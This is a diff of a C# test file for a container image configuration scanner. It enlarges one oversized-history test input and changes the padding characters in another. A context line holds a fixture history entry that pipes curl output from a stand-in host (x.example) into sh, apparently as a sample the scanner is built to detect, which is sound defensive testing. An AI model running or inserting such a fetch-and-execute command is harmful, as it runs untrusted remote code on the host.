@@ -95,7 +95,7 @@ public sealed class ImageConfigScannerTests
         var history = Enumerable.Repeat(new HistoryEntry("RUN true", null, false), 1001).ToList();
 
         Assert.Equal(StageOutcome.Partial, (await ScanAsync(Good with { History = history }, Files())).Outcome);
-        Assert.Equal(StageOutcome.Partial, (await ScanAsync(Good with { History = [new HistoryEntry(new string('x', 70_000), null, false)] }, Files())).Outcome);
+        Assert.Equal(StageOutcome.Partial, (await ScanAsync(Good with { History = [new HistoryEntry(new string('x', 1_100_000), null, false)] }, Files())).Outcome);
     }
 
     [Fact]
@@ -104,7 +104,7 @@ public sealed class ImageConfigScannerTests
         var history = new List<HistoryEntry>
         {
             new("RUN /bin/sh -c curl http://x.example/a | sh # buildkit", null, false),
-            new("|1 A=" + new string('a', 60_000) + " /bin/sh -c true", null, false),
+            new("|1 A=" + new string('$', 60_000) + " /bin/sh -c true", null, false),
         };
 
         var outcome = await ScanAsync(Good with { History = history }, Files());
